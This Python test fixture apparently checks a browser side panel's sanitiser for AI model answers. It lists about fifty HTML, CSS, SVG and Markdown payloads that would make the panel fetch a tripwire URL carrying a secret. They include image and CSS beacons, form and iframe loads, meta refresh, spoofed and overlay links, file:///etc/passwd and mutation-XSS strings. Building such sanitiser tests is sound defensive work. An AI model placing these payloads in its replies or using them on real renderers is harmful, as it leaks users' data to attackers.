"""What an attacker plants in an answer to make the side panel fetch a URL that carries the
user's data out: every way HTML, CSS, SVG and Markdown can load, submit or navigate.

Each payload leaks `secret` to the tripwire under its own path, so a hit names the attack.
"""

from __future__ import annotations

# A 2x2 red GIF, as a data: URL: pictures the model draws inline must keep rendering.
DATA_IMAGE = "data:image/gif;base64,R0lGODlhAgACAIABAP8AAP///yH5BAEKAAEALAAAAAACAAIAAAIChFEAOw=="


def payloads(origin: str, secret: str) -> dict[str, str]:
    def leak(name: str) -> str:
        return f"{origin}/{name}?d={secret}"

    return {
        "markdown image": f"![chart]({leak('md-img')})",
        "reference image": f"![ref][pic]\n\n[pic]: {leak('ref-img')}",
        "raw img": f'<img src="{leak("img")}" alt="raw">',
        "lazy img": f'<img loading="lazy" src="{leak("lazy")}">',
        "protocol-relative img": f'<img src="//{origin.split("//")[1]}/relative?d={secret}">',
        "srcset": f'<img srcset="{leak("srcset")} 1x, {leak("srcset2")} 2x" alt="set">',
        "data img with remote srcset": f'<img src="{DATA_IMAGE}" srcset="{leak("data-srcset")} 2x">',
        "picture source": f'<picture><source srcset="{leak("source")}"><img src="{leak("picture-img")}" alt="pic"></picture>',
        "style url": f'<div style="background:url({leak("bg")})">styled</div>',
        "style escaped url": f'<div style="background:u\\72 l({leak("bg-escaped")})">escaped</div>',
        "style image-set": f"<div style=\"background-image:image-set('{leak('image-set')}' 1x)\">set</div>",
        "style cursor, mask, border-image": (
            f'<p style="cursor:url({leak("cursor")}),auto;mask-image:url({leak("mask-css")});'
            f'border-image:url({leak("border-image")}) 30">cursor</p>'
        ),
        "style element": f"<style>@import url({leak('import')}); .turn{{background:url({leak('style-bg')})}}</style>",
        "svg image": f'<svg width="10" height="10"><image href="{leak("svg-image")}" width="10" height="10"/></svg>',
        "svg xlink image": (
            '<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">'
            f'<image xlink:href="{leak("svg-xlink")}" width="10" height="10"/></svg>'
        ),
        "svg use": f'<svg><use href="{leak("use")}#x"/></svg>',
        "svg feImage": f'<svg><filter id="f"><feImage href="{leak("feimage")}"/></filter><rect filter="url(#f)" width="5" height="5"/></svg>',
        "svg mask url": f'<svg><rect width="5" height="5" mask="url({leak("svg-mask")}#m)" fill="url({leak("svg-fill")}#g)"/></svg>',
        "svg style": f"<svg><style>rect{{fill:url({leak('svg-style')})}}</style><rect width='5' height='5'/></svg>",
        "video poster": f'<video poster="{leak("poster")}" src="{leak("video")}" autoplay></video>',
        "audio": f'<audio src="{leak("audio")}" autoplay></audio>',
        "track": f'<video><track src="{leak("track")}" default></video>',
        "link prefetch and stylesheet": f'<link rel="prefetch" href="{leak("prefetch")}"><link rel="stylesheet" href="{leak("css")}">',
        "meta refresh": f'<meta http-equiv="refresh" content="0;url={leak("refresh")}">',
        "base href": f'<base href="{origin}/base/">\n\n![relative](relative.png)',
        "form": f'<form action="{leak("form")}" method="post"><input name="q" value="{secret}"><button>Continue</button></form>',
        "button that submits the composer": f'<button form="composer" formaction="{leak("formaction")}">Send</button>',
        "input image": f'<input type="image" src="{leak("input-image")}">',
        "iframe": f'<iframe src="{leak("iframe")}"></iframe>',
        "iframe srcdoc": f'<iframe srcdoc="<img src={leak("srcdoc")}>"></iframe>',
        "object": f'<object data="{leak("object")}"></object>',
        "embed": f'<embed src="{leak("embed")}">',
        "table background": f'<table background="{leak("table-bg")}"><tr><td background="{leak("td-bg")}">cell</td></tr></table>',
        "link with ping": f'<a href="https://example.com/" ping="{leak("ping")}">pinged link</a>',
        "mathml href": f'<math href="{leak("math")}"><mi>x</mi></math>',
        "image map": f'<map name="m"><area href="{leak("area")}" shape="rect" coords="0,0,9,9"></map>',
        "autolink": f"<{leak('autolink')}>",
        "link that shows another host": f"[https://good.example/docs]({leak('spoof')})",
        "overlay link over the panel": f'<a href="{leak("overlay")}" style="position:fixed;inset:0;opacity:0;z-index:99">x</a>',
        "id that shadows the panel's": '<span id="notice-text">fake notice</span>',
        "link to a user name at another host": f"<{origin.replace('//', '//bank.example@')}/userinfo?d={secret}>",
        "homograph link": "[https://аpple.com/](https://аpple.com/)",
        "data: link": "[open](data:text/html,<script>alert(1)</script>)",
        "file and extension links": "[file](file:///etc/passwd) [settings](chrome-extension://abc/extension/options/options.html)",
        "svg link": f'<svg><a href="{leak("svg-a")}" xlink:href="{leak("svg-xlink-a")}"><text y="9">svg</text></a></svg>',
        "noscript img": f'<noscript><img src="{leak("noscript")}"></noscript>',
        "mutation xss": f'<math><mtext><table><mglyph><style><img src="{leak("mxss")}" onerror="window.pwned=1"></style></mglyph></table></mtext></math>',
        "data image": f"![red dot]({DATA_IMAGE})",
    }


def answer_with_everything(origin: str, secret: str) -> str:
    return "Here is what I found.\n\n" + "\n\n".join(payloads(origin, secret).values()) + "\n\nThe end."


# Checks what the panel rendered: nothing in it may point at the tripwire except a link's
# href and text attributes (title, alt, aria-*, data-*); links open in a new tab.
INSPECT_RENDERED = """
const [root, origin] = arguments;
const loading = [];
for (const el of root.querySelectorAll("*")) {
  for (const attr of el.attributes) {
    if (!attr.value.includes(origin.split("//")[1])) continue;
    const isLink = el.localName === "a" && attr.name === "href";
    const isText = /^(title|alt|aria-.*|data-.*)$/.test(attr.name); // shown, never fetched
    if (!isLink && !isText) loading.push(`${el.localName}[${attr.name}]`);
  }
}
const links = [...root.querySelectorAll("a[href]")].map((a) => ({
  href: a.getAttribute("href"), text: a.textContent, target: a.target, rel: a.rel, title: a.title, cls: a.className,
}));
const forbidden = [...root.querySelectorAll(
  "form, button:not(.copy), style, link, meta, base, iframe, object, embed, video, audio, source, track, picture, use, image, feImage, area, textarea, select"
)].map((el) => el.localName);
const images = [...root.querySelectorAll("img")].map((img) => ({ src: img.getAttribute("src"), width: img.naturalWidth, complete: img.complete }));
const styles = [...root.querySelectorAll("[style]")].map((el) => el.getAttribute("style"));
const ids = [...root.querySelectorAll("[id]")].map((el) => el.id);
return { loading, links, forbidden, images, styles, ids };
"""
